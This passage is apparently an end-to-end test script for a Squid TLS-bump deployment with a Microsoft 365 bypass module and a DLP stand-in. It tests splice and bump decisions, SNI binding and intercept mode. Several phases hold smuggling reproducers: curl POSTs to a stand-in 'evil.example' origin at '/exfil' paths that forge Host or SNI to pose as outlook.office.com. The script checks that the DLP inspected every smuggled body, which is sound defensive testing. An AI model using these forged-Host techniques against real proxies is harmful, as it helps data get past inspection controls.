#!/bin/bash
# e2e-tls.sh - the shipped TLS deployments, end to end: curl -> a TLS-capable
# Squid (ssl-bump) -> [o365bypass, DLP] chain -> loopback TLS origins.
#
# Every Squid here is made from a shipped file in conf/ (tls.sh's
# shipped_squid_conf: ports, ICAP URLs and paths substituted, test-only
# loopback lines first), plus the few edits a phase names.  One c-icap runs
# the module and srv_echo (the DLP stand-in); a second one runs the module
# in sni-bound mode.  Two origins: "origin" (127.0.0.42: plain 80, TLS 443
# and 993, a certificate for every test name) and "evil" (127.0.0.66: TLS
# 443 with a certificate valid for evil.example only, and for
# cdn.evil.example a "shared" certificate also valid for
# outlook.office.com).  Both log every request with the sha256 of its body;
# c-icap logs every body the DLP received (bodies are shorter than the
# preview, so the DLP gets each one whole): "the evil origin never receives
# a body the DLP did not see" is a set comparison of sha256s.
#
# Phases (E2E_PHASES selects, default all):
#   rec        conf/squid-o365bypass-tls.conf as shipped: Microsoft 365
#              CONNECTs spliced (client sees the origin CA, Squid logs
#              splice, no ICAP from inside), other hosts bumped (bump CA)
#              and their decrypted GETs and POST bodies inspected.
#   down       the same with the module's ICAP port dead: everything bumped
#              and inspected.
#   relaxed    bump-all (splice line removed) + sslproxy_cert_error allow
#              all: the smuggling reproducers (forged Host, absolute form,
#              forged SNI and Host) reach the DLP (reason=decrypted) and the
#              evil origin gets no body the DLP did not see.
#   sni        bump-all, Squid's default certificate checks, the shipped
#              (commented) adaptation_meta X-O365bypass-SNI line enabled,
#              module in DecryptedRequests sni-bound: a genuine Microsoft 365 request
#              is bypassed; a forged Host is refused by Squid (503) before
#              any ICAP call; a forged Host under a certificate valid for
#              both names reaches the module and is inspected (sni-mismatch);
#              and the module's verdicts straight over ICAP.  Not a check,
#              reported in the summary: sni-bound under relaxed checks with
#              SNI and Host forged alike (README.md: unsafe there).
#   fake       peek at step 1, splice at step 2: Squid's second, generated
#              CONNECT (Host without port) gets the real CONNECT's verdict on
#              443 and on 993 (set 2 lists 993): the DLP sees neither.
#   intercept  conf/squid-o365bypass-intercept.conf in a network namespace
#              of its own with a NAT redirect: a forged Host to the evil
#              origin's address gets 409 (host_verify_strict on); skipped,
#              with the reason, when the namespace or NAT cannot be set up.
#
# Knobs: E2E_PHASES="rec fake" runs some phases; E2E_KEEP=1 keeps the temp dir.
set -euo pipefail
E2E_TLS_SELF="$(cd "$(dirname "$0")" && pwd)/$(basename "$0")"
# shellcheck source=tests/e2e/lib.sh
. "${E2E_TLS_SELF%/*}/lib.sh"
# shellcheck source=tests/e2e/tls.sh
. "${E2E_TLS_SELF%/*}/tls.sh"

TLS_CONF="$top_srcdir/conf/squid-o365bypass-tls.conf"
INTERCEPT_CONF="$top_srcdir/conf/squid-o365bypass-intercept.conf"
PLAIN_CONF="$top_srcdir/conf/squid-o365bypass.conf"

# host -> the endpoint set the module names for its CONNECT (port 443)
declare -A SPLICE_SET=([outlook.office.com]=1 [teams.microsoft.com]=12)
SPLICE_HOSTS=(outlook.office.com teams.microsoft.com)
BUMP_HOSTS=(www.example.org www.office.com)     # not listed / Default (set 147)
EVIL_HOSTS=(evil.example cdn.evil.example)
ALL_PHASES="rec down relaxed sni fake intercept"

# ---- set-up -----------------------------------------------------------------

module_lines() {
    mkdir -p "$E2E_DIR/cache-$1"
    printf '%s\n' "Service o365bypass $O3B_MODULE" \
        "o365bypass.SeedFile $top_srcdir/module/data/endpoints-worldwide.json" \
        "o365bypass.CacheDir $E2E_DIR/cache-$1" "o365bypass.RefreshInterval 0"
}

# start_dlp_cicap NAME [CONF_LINE...]: c-icap with the module, srv_echo and
# a body log (E2E_DIR/bodies-NAME.log: "METHOD SERVICE BYTES URL SNI FIRST").
start_dlp_cicap() {
    local name=$1 lines
    shift
    mapfile -t lines < <(module_lines "$name")
    start_cicap "${lines[@]}" "$@" \
        'LogFormat bodies "%im %iu %Ib %huo %{X-O365bypass-SNI}>ih %{1100}bph"' \
        "AccessLog $E2E_DIR/bodies-$name.log bodies"
    cicap_service_ok o365bypass || fail "c-icap ($name) does not serve o365bypass"
}

write_hosts() {
    {
        printf '%s %s\n' "$MAIN_ADDR" "${E2E_TEST_HOSTS[*]} ${TLS_EXTRA_HOSTS[*]}"
        printf '%s %s\n' "$EVIL_ADDR" "${EVIL_HOSTS[*]}"
    } > "$E2E_DIR/hosts"
    chmod 0644 "$E2E_DIR/hosts"
}

# make_body ID: a unique printable body (under the DLP's preview size).
make_body() {
    { printf 'o3b-body-%s-' "$1"; head -c 480 /dev/urandom | base64 -w0; } > "$E2E_DIR/bodies/$1"
    BODY_LEN[$1]=$(stat -c %s "$E2E_DIR/bodies/$1")
    BODY_SHA[$1]=$(sha256sum < "$E2E_DIR/bodies/$1" | cut -d' ' -f1)
}

# ---- Squid from a shipped file ------------------------------------------------

# conf_edit FILE OLD_LINE NEW_TEXT: replace the exact line OLD_LINE (must be
# there) by NEW_TEXT (may hold newlines; empty deletes the line).
conf_edit() {
    OLD=$2 NEW=$3 "$PYTHON3" -c '
import os, sys
p, old, new = sys.argv[1], os.environ["OLD"], os.environ["NEW"]
lines = open(p).read().split("\n")
if old not in lines:
    sys.exit("line not found: " + old)
out = []
for line in lines:
    if line == old:
        if new:
            out.append(new)
    else:
        out.append(line)
open(p, "w").write("\n".join(out))' "$1" || fail "conf edit: '$2' not in ${1#"$E2E_DIR"/}"
}

# The phase's Squid: SQUID_SHIPPED (file), SQUID_MODULE_URL, SQUID_EDITS
# (pairs OLD NEW for conf_edit), SQUID_EXTRA (test-only lines, appended).
shipped_writer() {
    local dir=$1 port=$2 i
    [[ "$SQUID_SHIPPED" == "$INTERCEPT_CONF" ]] && { SQUID_INTERCEPT_PORT=$(free_port) || return 1; }
    shipped_squid_conf "$SQUID_SHIPPED" "$dir" "$port" "$SQUID_MODULE_URL" > "$dir/squid.conf"
    for (( i = 0; i + 1 < ${#SQUID_EDITS[@]}; i += 2 )); do
        conf_edit "$dir/squid.conf" "${SQUID_EDITS[$i]}" "${SQUID_EDITS[$(( i + 1 ))]}"
    done
    if [[ -n "${SQUID_EXTRA:-}" ]]; then
        printf '# ---- test-only lines of this phase\n%s\n' "$SQUID_EXTRA" >> "$dir/squid.conf"
    fi
    chmod 0644 "$dir/squid.conf"
}

# start_phase_squid PHASE: start the Squid of PHASE and mark the logs.
start_phase_squid() {
    start_squid_with shipped_writer "$1"
    log_mark
}

SPLICE_LINE='ssl_bump splice step1 o365_svc !dlp_svc'
PEEK_LINE='ssl_bump peek step1'
META_COMMENT='#adaptation_meta X-O365bypass-SNI "%ssl::>sni"'
META_LINE='adaptation_meta X-O365bypass-SNI "%ssl::>sni"'

# ---- what the services saw ----------------------------------------------------

# cicap_saw SERVICE URL_SUBSTRING: c-icap lines since the mark for SERVICE
# whose URL contains the substring (after log_freeze).
cicap_saw() {
    cicap_lines | awk -v s="$1" -v u="$2" '
        ($2 == s || $2 ~ ("/" s "$")) && index($4, u) { n++ } END { print n + 0 }'
}

# dlp_body_shas BODYLOG...: the sha256 of every body the DLP (echo) received
# whole in a REQMOD (c-icap's %Ib bytes of its %bph preview log).
dlp_body_shas() {
    "$PYTHON3" - "$@" <<'EOF'
import hashlib, re, sys
for path in sys.argv[1:]:
    for line in open(path, encoding="latin-1"):
        f = line.rstrip("\n").split(" ", 5)
        if len(f) < 6 or f[0] != "REQMOD" or not re.search(r"(^|/)echo$", f[1]):
            continue
        size = int(f[2]) if f[2].isdigit() else 0
        data = re.sub(r"\\x([0-9a-fA-F]{1,2})", lambda m: chr(int(m.group(1), 16)), f[5])
        if size > 0 and len(data) >= size:
            print(hashlib.sha256(data[:size].encode("latin-1")).hexdigest())
EOF
}

# origin_body_shas LOG: "sha256 path" of every request body LOG recorded.
origin_body_shas() { awk '$5 > 0 { print $6, $4 }' "$1" 2>/dev/null || true; }

# check_no_unseen_body ORIGIN_LOG WHAT: every body that origin received is
# one the DLP received whole (except the bodies of NOT_CHECKED_BODIES: the
# unchecked demonstration of sni_bound_relaxed_note).
check_no_unseen_body() {
    local seen sha path n=0 id skip=""
    seen=$(dlp_body_shas "$E2E_DIR"/bodies-*.log | sort -u)
    for id in "${NOT_CHECKED_BODIES[@]}"; do skip+="${BODY_SHA[$id]} "; done
    while read -r sha path; do
        [[ -n "$sha" && " $skip" != *" $sha "* ]] || continue
        n=$(( n + 1 ))
        if grep -qx "$sha" <<< "$seen"; then _check_result ok ""
        else _check_result no "$2: $path reached the origin with a body the DLP never saw"; fi
    done < <(origin_body_shas "$1")
    e2e_log "$2: $n bodies reached that origin, each checked against the DLP's"
}

# dlp_got_body ID: did the DLP receive body ID whole? (yes/no)
# (The producers' output is read whole, never piped into grep -q: grep
# exiting early would break their pipe, and pipefail would turn a match
# into "no".)
dlp_got_body() {
    local shas
    shas=$(dlp_body_shas "$E2E_DIR"/bodies-*.log)
    if grep -qx "${BODY_SHA[$1]}" <<< "$shas"; then echo yes; else echo no; fi
}

# origin_got_body LOG ID: did that origin receive body ID? (yes/no)
origin_got_body() {
    local shas
    shas=$(origin_body_shas "$1")
    if grep -q "^${BODY_SHA[$2]} " <<< "$shas"; then echo yes; else echo no; fi
}

# origin_requests LOG PATH: how many requests for PATH that origin logged.
origin_requests() { awk -v p="$2" '$4 == p { n++ } END { print n + 0 }' "$1" 2>/dev/null; }

# ---- requests -------------------------------------------------------------------

# send KEY URL CURL_ARGS...: tls_get, its results kept under KEY.
send() {
    local key=$1
    shift
    tls_get "$@"
    R_CODE[$key]=$TLS_CODE R_PATH[$key]=$TLS_PATH R_ISSUER[$key]=$TLS_ISSUER R_BODY[$key]=$TLS_BODY
}

# use_result KEY: TLS_CODE TLS_PATH TLS_ISSUER TLS_BODY of that request again.
use_result() {
    TLS_CODE=${R_CODE[$1]} TLS_PATH=${R_PATH[$1]} TLS_ISSUER=${R_ISSUER[$1]} TLS_BODY=${R_BODY[$1]}
}

# ---- per-request checks ------------------------------------------------------

# check_answer WHAT CODE PATH HOST METHOD URLPATH [BYTES]: the client's view.
check_answer() {
    local what=$1
    check_eq "$2" "$TLS_CODE" "$what: HTTP status"
    check_eq "$3" "$TLS_PATH" "$what: certificate the client saw (issuer $TLS_ISSUER)"
    [[ -n "$4" ]] && check_contains "host=$4 method=$5 path=$6 " "$TLS_BODY" "$what: origin answer"
    [[ -n "${7:-}" ]] && check_contains "bytes=$7" "$TLS_BODY" "$what: body arrived whole"
    return 0
}

# check_spliced_connect PHASE HOST: Squid spliced it on the module's word and
# nothing from inside the tunnel reached ICAP.
check_spliced_connect() {
    local what="$1 $2" url="$2:443"
    check_eq splice "$(squid_field "$url" 8)" "$what: Squid's %ssl::bump_mode"
    check_ge 1 "$(grep -c " CONNECT $url 200 splice " "$SQUID_DIR/access-shipped.log" || true)" \
        "$what: the shipped log format shows the splice"
    check_prefix "bypass; set=${SPLICE_SET[$2]};" "$(module_decision REQMOD "$url")" "$what: module's CONNECT decision"
    check_eq 0 "$(dlp_count REQMOD "$url")" "$what: DLP REQMOD of the CONNECT"
    check_eq 0 "$(cicap_saw echo "https://$2/")" "$what: DLP lines for https://$2/"
    check_eq 0 "$(cicap_saw o365bypass "https://$2/")" "$what: ICAP requests from inside the tunnel"
}

# check_bumped_inspected PHASE HOST URL [BODY_ID]: bumped, and the decrypted
# request went through the module (unless down) and the DLP.
check_bumped_inspected() {
    local phase=$1 host=$2 url=$3 what="$1 $3"
    check_eq bump "$(squid_field "$host:443" 8)" "$what: Squid's %ssl::bump_mode of the CONNECT"
    check_eq bump "$(squid_field "$url" 8)" "$what: Squid's %ssl::bump_mode"
    check_ge 1 "$(dlp_count REQMOD "$url")" "$what: DLP REQMOD"
    check_ge 1 "$(dlp_count RESPMOD "$url")" "$what: DLP RESPMOD"
    if [[ "$phase" == down ]]; then
        check_eq 0 "$(module_count REQMOD "$url")" "$what: module REQMOD (down)"
    else
        check_prefix "inspect; reason=" "$(module_decision REQMOD "$host:443")" "$what: module's CONNECT decision"
        check_prefix "inspect; reason=decrypted" "$(module_decision REQMOD "$url")" "$what: module REQMOD decision"
        check_prefix "inspect; reason=decrypted" "$(module_decision RESPMOD "$url")" "$what: module RESPMOD decision"
    fi
    [[ -n "${4:-}" ]] && check_eq yes "$(dlp_got_body "$4")" "$what: the DLP received the body whole"
    return 0
}

# ---- phases -------------------------------------------------------------------

phase_rec() {
    local phase=$1 host id
    SQUID_SHIPPED=$TLS_CONF SQUID_EDITS=() SQUID_EXTRA=""
    SQUID_MODULE_URL="icap://127.0.0.1:$CICAP_PORT/o365bypass"
    [[ "$phase" == down ]] && SQUID_MODULE_URL="icap://127.0.0.1:1/o365bypass"  # port 1: closed
    start_phase_squid "$phase"
    for host in "${SPLICE_HOSTS[@]}" "${BUMP_HOSTS[@]}"; do
        id="$phase-$host"
        make_body "$id"
        send "$id get" "https://$host/e2e/$phase/get"
        send "$id post" "https://$host/e2e/$phase/post" --data-binary "@$E2E_DIR/bodies/$id"
    done
    log_freeze
    for host in "${SPLICE_HOSTS[@]}" "${BUMP_HOSTS[@]}"; do
        id="$phase-$host"
        local want=bumped
        [[ "$phase" == rec && -n "${SPLICE_SET[$host]:-}" ]] && want=spliced
        use_result "$id get"
        check_answer "$phase $host GET" 200 "$want" "$host" GET "/e2e/$phase/get"
        use_result "$id post"
        check_answer "$phase $host POST" 200 "$want" "$host" POST "/e2e/$phase/post" "${BODY_LEN[$id]}"
        if [[ "$want" == spliced ]]; then
            check_spliced_connect "$phase" "$host"
            check_eq no "$(dlp_got_body "$id")" "$phase $host: the DLP never saw the spliced upload"
            check_eq yes "$(origin_got_body "$MAIN_LOG" "$id")" "$phase $host: the origin got the spliced upload"
        else
            check_bumped_inspected "$phase" "$host" "https://$host/e2e/$phase/get"
            check_bumped_inspected "$phase" "$host" "https://$host/e2e/$phase/post" "$id"
        fi
        [[ "$phase" == down ]] && check_eq 0 "$(module_count REQMOD "$host:443")" "$phase $host: module saw the CONNECT"
    done
    [[ "$phase" == rec ]] && check_loopback_guard "$phase"
    [[ "$phase" == down ]] && check_ge 1 "$(grep -c 'service is down.*127\.0\.0\.1:1/o365bypass' "$SQUID_DIR/cache.log" || true)" \
        "down: Squid marked the dead module service down"
    squid_stop
}

# Every TLS Squid refuses destinations outside loopback, also for IP-literal
# CONNECTs on the ssl-bump port.  Squid 5.7 "bumps to serve the error": it
# accepts the denied CONNECT without any server connection (logged 200,
# bump, no ICAP), then answers the request inside it with its own 403.
check_loopback_guard() {
    local target
    for target in 52.96.1.1 "[2603:1006::1]"; do
        tls_get "https://$target/e2e/guard" --connect-timeout 5 -k
        check_eq 403 "$TLS_CODE" "$1: loopback guard: request to https://$target/ refused"
        check_eq 403 "$(squid_logged_status GET "https://$target/e2e/guard")" \
            "$1: loopback guard: Squid's own 403 for https://$target/"
        check_eq 0 "$(cicap_saw o365bypass "$target")" "$1: loopback guard: no ICAP request for $target"
    done
}

# squid_logged_status METHOD URL: the status Squid last logged for METHOD
# URL since the mark (reads the log itself).
squid_logged_status() {
    logs_settle "$SQUID_ACCESS_LOG" "$CICAP_ACCESS_LOG"
    squid_lines | awk -F'|' -v m="$1" -v u="$2" '$2 == m && $3 == u { s = $4 } END { print (s == "" ? "-" : s) }'
}

phase_relaxed() {
    local base="https://outlook.office.com/e2e/relaxed"
    SQUID_SHIPPED=$TLS_CONF SQUID_MODULE_URL="icap://127.0.0.1:$CICAP_PORT/o365bypass"
    SQUID_EDITS=("$SPLICE_LINE" "") SQUID_EXTRA="sslproxy_cert_error allow all"
    start_phase_squid relaxed
    make_body relaxed-host
    make_body relaxed-abs
    make_body relaxed-sni
    # 1: CONNECT evil.example, SNI evil.example, Host outlook.office.com.
    send relaxed-host "https://evil.example/e2e/relaxed/exfil" -H 'Host: outlook.office.com' \
        --data-binary "@$E2E_DIR/bodies/relaxed-host"
    # 2: the same tunnel, absolute form: POST http://outlook.office.com:443/...
    send relaxed-abs "https://evil.example/" --request-target "http://outlook.office.com:443/e2e/relaxed/exfil-abs" \
        -H 'Host: outlook.office.com' --data-binary "@$E2E_DIR/bodies/relaxed-abs"
    # 3: CONNECT evil.example, SNI and Host outlook.office.com (the client
    #    chooses both; the relaxed Squid accepts evil's certificate for it and
    #    mimics it, so the client, the attacker's own, does not verify: -k).
    send relaxed-sni "$base/exfil-sni" -k --connect-to outlook.office.com:443:evil.example:443 \
        --data-binary "@$E2E_DIR/bodies/relaxed-sni"
    # 4: a genuine Microsoft 365 request, bumped by this config.
    send relaxed-genuine "$base/genuine"
    log_freeze
    local id url
    for id in relaxed-host relaxed-abs relaxed-sni; do
        case $id in
            relaxed-host) url="$base/exfil" ;;
            relaxed-abs) url="http://outlook.office.com:443/e2e/relaxed/exfil-abs" ;;
            relaxed-sni) url="$base/exfil-sni" ;;
        esac
        use_result "$id"
        check_eq 200 "$TLS_CODE" "$id: delivered (the reproducer is live)"
        check_eq bumped "$TLS_PATH" "$id: bumped"
        check_eq yes "$(origin_got_body "$EVIL_LOG" "$id")" "$id: the evil origin received it"
        check_prefix "inspect; reason=decrypted" "$(module_decision REQMOD "$url")" "$id: module REQMOD decision for $url"
        check_ge 1 "$(dlp_count REQMOD "$url")" "$id: DLP REQMOD for $url"
        check_eq yes "$(dlp_got_body "$id")" "$id: the DLP received the body whole"
    done
    use_result relaxed-genuine
    check_answer "relaxed genuine" 200 bumped outlook.office.com GET /e2e/relaxed/genuine
    check_prefix "inspect; reason=decrypted" "$(module_decision REQMOD "$base/genuine")" "relaxed genuine: module REQMOD decision"
    check_ge 1 "$(dlp_count REQMOD "$base/genuine")" "relaxed genuine: DLP REQMOD"
    check_no_unseen_body "$EVIL_LOG" "relaxed: evil origin"
    squid_stop
}

phase_sni() {
    local base="https://outlook.office.com/e2e/sni" main_cicap=$CICAP_PID
    start_dlp_cicap sni "o365bypass.DecryptedRequests sni-bound"
    SQUID_SHIPPED=$TLS_CONF SQUID_MODULE_URL="icap://127.0.0.1:$CICAP_PORT/o365bypass"
    SQUID_EDITS=("$SPLICE_LINE" "" "$META_COMMENT" "$META_LINE") SQUID_EXTRA=""
    start_phase_squid sni
    make_body sni-genuine
    make_body sni-503
    make_body sni-shared
    send sni-get "$base/get"
    send sni-post "$base/post" --data-binary "@$E2E_DIR/bodies/sni-genuine"
    send sni-other "https://www.example.org/e2e/sni/other"
    # Forged Host, certificate valid for evil.example only: Squid refuses.
    send sni-503 "https://evil.example/e2e/sni/exfil-503" -H 'Host: outlook.office.com' \
        --data-binary "@$E2E_DIR/bodies/sni-503"
    # Forged Host, the origin's certificate is valid for both names (a shared
    # certificate): Squid's check passes, the module must catch it.
    send sni-shared "https://cdn.evil.example/e2e/sni/exfil-shared" -H 'Host: outlook.office.com' \
        --data-binary "@$E2E_DIR/bodies/sni-shared"
    log_freeze
    use_result sni-get
    check_answer "sni genuine GET" 200 bumped outlook.office.com GET /e2e/sni/get
    use_result sni-post
    check_answer "sni genuine POST" 200 bumped outlook.office.com POST /e2e/sni/post "${BODY_LEN[sni-genuine]}"
    local url
    for url in "$base/get" "$base/post"; do
        check_prefix "bypass; set=1;" "$(module_decision REQMOD "$url")" "sni genuine $url: module REQMOD decision"
        check_prefix "bypass; set=1;" "$(module_decision RESPMOD "$url")" "sni genuine $url: module RESPMOD decision"
        check_eq 0 "$(dlp_count REQMOD "$url")" "sni genuine $url: DLP REQMOD"
        check_eq 0 "$(dlp_count RESPMOD "$url")" "sni genuine $url: DLP RESPMOD"
    done
    check_eq outlook.office.com "$(sni_meta_seen "$base/get")" "sni genuine: X-O365bypass-SNI the module received"
    use_result sni-other
    check_answer "sni www.example.org" 200 bumped www.example.org GET /e2e/sni/other
    check_ge 1 "$(dlp_count REQMOD https://www.example.org/e2e/sni/other)" "sni www.example.org: DLP REQMOD"
    use_result sni-503
    check_eq 503 "$TLS_CODE" "sni forged Host (evil's own certificate): Squid refuses"
    check_eq 0 "$(cicap_saw o365bypass /e2e/sni/exfil-503)" "sni forged Host 503: no ICAP request made"
    check_eq 0 "$(origin_requests "$EVIL_LOG" /e2e/sni/exfil-503)" "sni forged Host 503: the evil origin got nothing"
    use_result sni-shared
    check_eq 200 "$TLS_CODE" "sni forged Host (shared certificate): delivered"
    check_prefix "inspect; reason=sni-mismatch" "$(module_decision REQMOD "$base/exfil-shared")" "sni forged Host (shared certificate): module REQMOD decision"
    check_prefix "inspect; reason=sni-mismatch" "$(module_decision RESPMOD "$base/exfil-shared")" "sni forged Host (shared certificate): module RESPMOD decision"
    check_eq cdn.evil.example "$(sni_meta_seen "$base/exfil-shared")" "sni forged Host: X-O365bypass-SNI the module received"
    check_eq yes "$(dlp_got_body sni-shared)" "sni forged Host (shared certificate): the DLP received the body whole"
    check_no_unseen_body "$EVIL_LOG" "sni: evil origin"
    squid_stop
    sni_bound_relaxed_note
    check_direct_icap sni-bound "$CICAP_PORT"
    cicap_stop "$CICAP_PID"
    restore_cicap "$main_cicap"
    check_direct_icap inspect "$CICAP_PORT"
}

# Not a check: what README.md warns about.  sni-bound under relaxed
# certificate checks, the client choosing SNI and Host alike (CONNECT
# evil.example, both outlook.office.com): reported in the summary.
sni_bound_relaxed_note() {
    local url="https://outlook.office.com/e2e/sni/relaxed-forged"
    SQUID_EXTRA="sslproxy_cert_error allow all"
    start_phase_squid sni-relaxed
    make_body sni-relaxed
    NOT_CHECKED_BODIES+=(sni-relaxed)
    send sni-relaxed "$url" -k --connect-to outlook.office.com:443:evil.example:443 \
        --data-binary "@$E2E_DIR/bodies/sni-relaxed"
    log_freeze
    PHASE_NOTE="sni-bound + sslproxy_cert_error allow all, SNI=Host=outlook.office.com to evil:"
    PHASE_NOTE+=" module '$(module_decision REQMOD "$url" | cut -d';' -f1)', evil origin got it:"
    PHASE_NOTE+=" $(origin_got_body "$EVIL_LOG" sni-relaxed), DLP saw it: $(dlp_got_body sni-relaxed)"
    squid_stop
}

# sni_meta_seen URL: the X-O365bypass-SNI header the module got with URL.
sni_meta_seen() {
    awk -v u="$1" '$1 == "REQMOD" && $2 ~ /o365bypass$/ && $4 == u { s = $5 } END { print (s == "" ? "none" : s) }' \
        "$E2E_DIR"/bodies-*.log
}

# The module's verdict straight over ICAP (c-icap-client), decrypted request
# https://outlook.office.com/direct with or without X-O365bypass-SNI.
check_direct_icap() {
    local mode=$1 port=$2 sni want got
    for sni in outlook.office.com evil.example "bad_sni!" none; do
        case "$mode/$sni" in
            sni-bound/outlook.office.com) want="bypass; set=1;" ;;
            */outlook.office.com|*/none) want="inspect; reason=decrypted" ;;
            *) want="inspect; reason=sni-mismatch" ;;
        esac
        local args=(-i 127.0.0.1 -p "$port" -s o365bypass -req https://outlook.office.com/direct -v)
        [[ "$sni" != none ]] && args+=(-x "X-O365bypass-SNI: $sni")
        got=$(timeout 10 "$CICAP_CLIENT" "${args[@]}" 2>&1 | sed -n 's/^[[:space:]]*X-O365bypass-Decision: //p' | tr -d '\r' | head -n 1)
        check_prefix "$want" "$got" "ICAP direct ($mode), SNI $sni: module decision"
    done
}

# restore_cicap PID: make the c-icap PID (still running) the current one.
restore_cicap() {
    local dir=${_E2E_CICAP_DIR[$1]}
    CICAP_PID=$1 CICAP_DIR=$dir
    CICAP_PORT=$(sed -n 's/^Port 127\.0\.0\.1://p' "$dir/c-icap.conf")
    CICAP_ACCESS_LOG="$dir/access.log" CICAP_SERVER_LOG="$dir/server.log" CICAP_CTL="$dir/c-icap.ctl"
    export CICAP_PORT CICAP_PID CICAP_ACCESS_LOG CICAP_SERVER_LOG CICAP_CTL CICAP_DIR
}

phase_fake() {
    SQUID_SHIPPED=$TLS_CONF SQUID_MODULE_URL="icap://127.0.0.1:$CICAP_PORT/o365bypass"
    SQUID_EDITS=("$SPLICE_LINE" "" "$PEEK_LINE" "$PEEK_LINE"$'\n''ssl_bump splice o365_svc !dlp_svc')
    SQUID_EXTRA=$'acl SSL_ports port 993\nacl Safe_ports port 993'
    start_phase_squid fake
    send fake-993 "https://outlook.office365.com:993/e2e/fake/imaps"
    send fake-443 "https://outlook.office.com/e2e/fake/https"
    send fake-other "https://www.example.org:993/e2e/fake/other"
    log_freeze
    local key host port set url
    for key in fake-993 fake-443; do
        case $key in
            fake-993) host=outlook.office365.com port=993 set=2 url=/e2e/fake/imaps ;;
            fake-443) host=outlook.office.com port=443 set=1 url=/e2e/fake/https ;;
        esac
        use_result "$key"
        check_answer "fake $host:$port" 200 spliced "$host$([[ $port == 443 ]] || echo ":$port")" GET "$url"
        check_eq 2 "$(module_count REQMOD "$host:$port")" "fake $host:$port: module saw the CONNECT and Squid's generated one"
        check_prefix "bypass; set=$set;" "$(module_decision REQMOD "$host:$port")" "fake $host:$port: module decision on the generated CONNECT"
        check_eq 0 "$(dlp_count REQMOD "$host:$port")" "fake $host:$port: DLP REQMOD (real or generated CONNECT)"
        check_eq splice "$(squid_field "$host:$port" 8)" "fake $host:$port: Squid's %ssl::bump_mode"
    done
    use_result fake-other
    check_answer "fake www.example.org:993" 200 bumped "www.example.org:993" GET /e2e/fake/other
    check_ge 1 "$(dlp_count REQMOD https://www.example.org:993/e2e/fake/other)" "fake www.example.org:993: DLP REQMOD"
    squid_stop
}

# ---- intercept: in a network namespace of its own -----------------------------

phase_intercept() {
    local ns="o3be2e$$" rc=0 report="$E2E_DIR/intercept.report"
    if ! command -v ip >/dev/null 2>&1 || ! command -v iptables >/dev/null 2>&1; then
        intercept_skipped "ip or iptables not found (install iproute2, iptables)"; return 0
    fi
    if ! ip netns add "$ns" 2> "$E2E_DIR/netns.err"; then
        intercept_skipped "cannot create a network namespace: $(head -n 1 "$E2E_DIR/netns.err")"; return 0
    fi
    e2e_on_exit netns_del "$ns"
    if ! ip netns exec "$ns" ip link set lo up 2>> "$E2E_DIR/netns.err" ||
       ! ip netns exec "$ns" iptables -t nat -A OUTPUT -p tcp --dport 1 -m owner --uid-owner proxy \
            -j REDIRECT --to-ports 2 2>> "$E2E_DIR/netns.err"; then
        intercept_skipped "no loopback NAT redirect in the namespace: $(tail -n 1 "$E2E_DIR/netns.err")"
        netns_del "$ns"; return 0
    fi
    ip netns exec "$ns" iptables -t nat -F OUTPUT
    e2e_log "intercept: running in network namespace $ns"
    E2E_TLS_INNER=intercept E2E_TLS_REPORT=$report timeout 300 \
        ip netns exec "$ns" bash "$E2E_TLS_SELF" || rc=$?
    netns_del "$ns"
    case $rc in
        0|1) ;;
        77) intercept_skipped "the run inside the namespace skipped (see above)"; return 0 ;;
        *) fail "intercept run inside the namespace: exit status $rc" ;;
    esac
    local checks failed
    read -r checks failed < "$report" || fail "intercept: no report from the namespace run"
    E2E_CHECKS=$(( E2E_CHECKS + checks ))
    E2E_FAILED_CHECKS=$(( E2E_FAILED_CHECKS + failed ))
    (( failed == 0 )) || printf '  not ok: intercept: %d of %d checks failed (see above)\n' "$failed" "$checks" >&2
    PHASE_NOTE="in network namespace $ns"
}

netns_del() { ip netns del "$1" 2>/dev/null || true; }

intercept_skipped() {
    printf 'SKIP (intercept phase only): %s\n' "$1" >&2
    PHASE_NOTE="SKIPPED: $1"
}

# Runs inside the namespace (a fresh e2e run of its own: c-icap, origins,
# Squid, client, NAT), reports "CHECKS FAILED" to E2E_TLS_REPORT.
intercept_inner() {
    e2e_init tls-intercept
    mkdir -p "$E2E_DIR/bodies"
    start_origin_in origin auto --port 80
    MAIN_ADDR=$ORIGIN_ADDR MAIN_LOG=$ORIGIN_LOG
    start_origin_in evil auto-66 --port 80
    EVIL_ADDR=$ORIGIN_ADDR EVIL_LOG=$ORIGIN_LOG
    ORIGIN_ADDR=$MAIN_ADDR
    write_hosts
    start_dlp_cicap main
    SQUID_SHIPPED=$INTERCEPT_CONF SQUID_MODULE_URL="icap://127.0.0.1:$CICAP_PORT/o365bypass"
    SQUID_EDITS=() SQUID_EXTRA=""
    start_phase_squid intercept
    # Port 80 from anyone but Squid's own user goes to the intercept port.
    iptables -t nat -A OUTPUT -p tcp -d 127.0.0.0/8 --dport 80 -m owner ! --uid-owner proxy \
        -j REDIRECT --to-ports "$SQUID_INTERCEPT_PORT" || hard_error "iptables REDIRECT failed"
    intercept_requests strict
    squid_stop
    # Why the shipped file requires host_verify_strict on: without it Squid
    # forwards the forged Host to the address the client connected to.
    SQUID_EDITS=("host_verify_strict on" "host_verify_strict off")
    start_phase_squid intercept-lax
    iptables -t nat -F OUTPUT
    iptables -t nat -A OUTPUT -p tcp -d 127.0.0.0/8 --dport 80 -m owner ! --uid-owner proxy \
        -j REDIRECT --to-ports "$SQUID_INTERCEPT_PORT" || hard_error "iptables REDIRECT failed"
    intercept_requests lax
    squid_stop
    _intercept_report
    check_done
}

_intercept_report() { echo "$E2E_CHECKS $E2E_FAILED_CHECKS" > "$E2E_TLS_REPORT"; }

# plain_get ADDR URL CURL_ARGS...: a direct request (no proxy) to ADDR:80,
# which the NAT rule hands to Squid's intercept port.  Sets TLS_CODE TLS_BODY.
plain_get() {
    local addr=$1 url=$2 host out
    shift 2
    host=${url#http://}; host=${host%%/*}
    out=$(mktemp "$E2E_DIR/plain.XXXXXX")
    TLS_CODE=$(curl -sS --max-time 30 --noproxy '*' --resolve "$host:80:$addr" -H 'Expect:' \
        -o "$out" -w '%{http_code}' "$@" "$url" 2>>"$E2E_DIR/curl.log") || true
    TLS_CODE=${TLS_CODE:-000}
    TLS_BODY=$(cat "$out")
    rm -f "$out"
}

intercept_requests() {
    local mode=$1 base="http://outlook.office.com/e2e/intercept-$1"
    make_body "icpt-$mode"
    plain_get "$MAIN_ADDR" "$base/genuine"
    local genuine="$TLS_CODE|$TLS_BODY"
    plain_get "$MAIN_ADDR" "http://www.example.org/e2e/intercept-$mode/other"
    local other="$TLS_CODE|$TLS_BODY"
    plain_get "$EVIL_ADDR" "$base/exfil" --data-binary "@$E2E_DIR/bodies/icpt-$mode"
